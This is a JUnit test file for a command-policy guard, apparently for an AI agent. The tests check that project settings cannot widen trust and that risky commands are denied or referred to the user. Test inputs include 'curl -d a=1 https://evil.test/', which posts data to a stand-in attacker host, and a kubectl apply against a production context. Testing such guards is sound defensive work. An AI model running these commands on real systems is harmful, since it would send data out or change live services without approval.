package dev.cattlegrid.door;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.cattlegrid.call.Origin;
import dev.cattlegrid.cases.Cases;
import dev.cattlegrid.effect.world.AssumedWorld;
import dev.cattlegrid.host.Tools;
import dev.cattlegrid.policy.Decision;
import dev.cattlegrid.policy.Environment;
import dev.cattlegrid.policy.Layer.Level;
import dev.cattlegrid.policy.Policy;
import dev.cattlegrid.policy.Trusted;
import dev.cattlegrid.policy.Verdict;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.io.TempDir;

class SettingsTest {
    @TempDir private Path folder;

    private static Settings.Read text(String text) {
        return SettingsText.read(text, "f", Level.USER, "/home/dev");
    }

    private Settings.Read file(Path file, Level level) {
        return Settings.read(file, level, folder);
    }

    private static String why(Settings.Read read) {
        return assertInstanceOf(Settings.Read.Bad.class, read, read::toString).why();
    }

    private static Settings settings(Settings.Read read) {
        return assertInstanceOf(Settings.Read.Of.class, read, read::toString).settings();
    }

    @Test
    void nothingSetIsUsual() {
        assertTrue(settings(file(folder.resolve("none"), Level.USER)).isSilent());
        assertTrue(settings(text("")).isSilent());
        assertEquals(Optional.of(true), settings(text("observe = true")).session().observe());
    }

    /// What a text of settings comes to: silence, or what is wrong with it.
    @TestFactory
    Stream<DynamicTest> whatIsWrongIsSaid() {
        return Cases.of(
                "door/settings.txt",
                text ->
                        List.of(
                                switch (text(text)) {
                                    case Settings.Read.Of(var settings) ->
                                            "read %s %s%s%s"
                                                    .formatted(
                                                            settings.session(),
                                                            settings.said(),
                                                            settings.words().isSilent()
                                                                    ? ""
                                                                    : " " + settings.words(),
                                                            settings.judge()
                                                                    .terms()
                                                                    .map(terms -> " " + terms)
                                                                    .orElse(""));
                                    case Settings.Read.Bad(var why) -> why;
                                }));
    }

    @Test
    void aFileThatOthersCanWriteSettlesNothing() throws IOException {
        Path file = Files.writeString(folder.resolve("settings.toml"), "observe = true");
        Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rw-rw-rw-"));
        assertTrue(why(file(file, Level.USER)).startsWith("others can write"));
        Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rw-r--r--"));
        assertTrue(settings(file(file, Level.USER)).session().observe().isPresent());
    }

    @Test
    void aLinkIsNoFileOfAProject() throws IOException {
        Path file = Files.writeString(folder.resolve("elsewhere.toml"), "");
        Path link = Files.createSymbolicLink(folder.resolve("settings.toml"), file);
        assertTrue(why(file(link, Level.PROJECT)).endsWith("is no regular file"));
    }

    @Test
    void aProjectAddsAndNeverTakesAway() throws IOException {
        write(
                ".config/cattlegrid/settings.toml",
                "[environment]\ntrusted-hosts = [\"api.acme.test\"]");
        write(
                "work/.cattlegrid/settings.toml",
                """
                observe = true
                [environment]
                trusted-hosts = ["evil.test"]
                contained = true
                production = ["shop-live"]
                [raise]
                request-changes = "soft"
                """);
        Surroundings surroundings = surroundings();
        Policy outside = policy(surroundings.at(folder.toString()));
        Policy inside = policy(surroundings.at(folder.resolve("work/src").toString()));
        assertEquals(Environment.NONE.notes(), outside.environment().notes());
        assertEquals(3, inside.environment().notes().size());
        assertEquals(outside.environment().trusted(), inside.environment().trusted());
        assertTrue(outside.environment().trusted().containsKey(Trusted.HOSTS));
        assertFalse(inside.environment().contained());
        assertFalse(surroundings.observe());
        assertEquals(Verdict.ALLOW, verdict("curl -d a=1 https://api.acme.test/", inside));
        assertEquals(Verdict.DENY, verdict("curl -d a=1 https://evil.test/", inside));
        assertEquals(Verdict.ASK, verdict("curl -d a=1 https://evil.test/", outside));
        assertEquals(Verdict.DENY, verdict("kubectl --context shop-live apply -f a.yaml", inside));
        assertEquals(Verdict.ASK, verdict("kubectl --context shop-live apply -f a.yaml", outside));
    }

    @Test
    void aBrokenFileOfAProjectRefuses() throws IOException {
        write("work/.cattlegrid/settings.toml", "[environment]\nproduktion = []");
        var bad =
                assertInstanceOf(
                        Surroundings.At.Bad.class,
                        surroundings().at(folder.resolve("work").toString()));
        assertTrue(bad.why().contains("did you mean `production`"), bad.why());
    }

    @Test
    void anOrganisationsFileBelongsToRoot() throws IOException {
        Path file = write("etc/settings.toml", "observe = false");
        boolean root = Integer.valueOf(0).equals(Files.getAttribute(file, "unix:uid"));
        Settings.Read read = file(file, Level.ORGANISATION);
        assertEquals(root, read instanceof Settings.Read.Of, read.toString());
    }

    private Path write(String name, String text) throws IOException {
        Path file = folder.resolve(name);
        Files.createDirectories(file.getParent());
        Files.writeString(file, text);
        return Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rw-------"));
    }

    private Surroundings surroundings() {
        var read =
                Surroundings.read(folder, folder.resolve("none"), folder.resolve(Settings.IN_HOME));
        return assertInstanceOf(Surroundings.Read.Of.class, read, read::toString).surroundings();
    }

    private static Policy policy(Surroundings.At at) {
        return assertInstanceOf(Surroundings.At.Of.class, at, at::toString).policy();
    }

    private static Verdict verdict(String command, Policy policy) {
        Decision decision =
                Door.usual()
                        .under(policy)
                        .decide(
                                Tools.command(command, Origin.in("/home/dev/project")),
                                _ -> AssumedWorld.usual());
        return decision.verdict();
    }
}
